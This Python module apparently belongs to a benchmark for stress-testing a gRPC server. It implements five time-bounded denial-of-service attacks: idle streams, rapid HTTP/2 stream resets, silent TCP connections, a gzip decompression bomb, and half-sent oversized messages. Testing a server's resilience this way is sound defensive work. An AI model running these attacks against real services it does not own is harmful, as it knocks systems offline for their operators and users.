"""Attacks, each bounded in number and time; a function of an address and seconds that says what it did."""

from __future__ import annotations

import contextlib
import gzip
import resource
import time
from typing import TYPE_CHECKING

from benchmarks.hostile.attacks import ASK, CONVERSE, RECOGNIZE, Attacker, message_prefix, silent_connection

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

_SILENT_STREAMS, _STREAMS_OF_CONNECTION = 80, 10
_RESETS_PER_SECOND, _BURST = 2_000, 100
_SILENT_CONNECTIONS = 1_500
_BOMB_BYTES = 300 << 20
_HALF_MESSAGES, _HALF_BYTES = 8, 168 << 20


def silent_streams(address: str, seconds: float) -> str:
    """Open 80 conversations, and send nothing."""
    attackers = [Attacker.connected(address) for _ in range(_SILENT_STREAMS // _STREAMS_OF_CONNECTION)]
    for attacker in attackers:
        for _ in range(_STREAMS_OF_CONNECTION):
            attacker.open_call(CONVERSE)
    _hold(attackers, seconds)
    return f"{_SILENT_STREAMS} streams"


def resets(address: str, seconds: float) -> str:
    """Open 2,000 calls a second, and cancel each in the same breath."""
    attacker, count, connections = Attacker.connected(address), 0, 1
    until = time.monotonic() + seconds
    began = time.monotonic()
    while time.monotonic() < until:
        if attacker.closed:
            attacker, connections = Attacker.connected(address), connections + 1
        with contextlib.suppress(OSError):
            attacker.open_and_reset(ASK, _BURST)
            count += _BURST
        attacker.read(max(0.0, began + count / _RESETS_PER_SECOND - time.monotonic()))
    attacker.close()
    return f"{count} resets over {connections} connections"


def silent_connections(address: str, seconds: float) -> str:
    """Open 1,500 TCP connections, and say nothing."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = []
    for _ in range(_SILENT_CONNECTIONS):
        with contextlib.suppress(OSError):
            opened.append(silent_connection(address, 1.0))
    time.sleep(seconds)
    for one in opened:
        one.close()
    return f"{len(opened)} connections"


def gzip_bomb(address: str, seconds: float) -> str:
    """Send requests of 300 kB that become 300 MiB."""
    bomb = gzip.compress(bytes(_BOMB_BYTES))
    request = message_prefix(len(bomb), compressed=True) + bomb
    until, count = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        attacker = Attacker.connected(address)
        call = attacker.open_call(RECOGNIZE if count % 2 else ASK, grpc_encoding="gzip")
        attacker.send(call, request, ends=True)
        attacker.read(0.5)
        attacker.close()
        count += 1
    return f"{count} bombs of {len(bomb)} bytes"


def half_messages(address: str, seconds: float) -> str:
    """Send eight messages of 336 MiB, half of each."""
    attackers = [Attacker.connected(address) for _ in range(_HALF_MESSAGES)]
    block, sent = bytes(1 << 20), 0
    calls = [(attacker, attacker.open_call(RECOGNIZE)) for attacker in attackers]
    until = time.monotonic() + seconds
    for attacker, call in calls:
        attacker.send(call, message_prefix(2 * _HALF_BYTES))
        for _ in range(_HALF_BYTES // len(block)):
            taken = 0 if time.monotonic() > until else attacker.send(call, block, patience_seconds=0.5)
            sent += taken
            if taken < len(block):
                break
    _hold(attackers, max(0.0, until - time.monotonic()))
    return f"{sent >> 20} MiB were taken"


def _hold(attackers: list[Attacker], seconds: float) -> None:
    """Keep connections alive, but say nothing over them."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for attacker in attackers:
            attacker.read(0.01)
        time.sleep(0.05)
    for attacker in attackers:
        attacker.close()


ATTACKS: Mapping[str, Callable[[str, float], str]] = {
    "silent-streams": silent_streams,
    "resets": resets,
    "silent-connections": silent_connections,
    "gzip-bomb": gzip_bomb,
    "half-messages": half_messages,
}
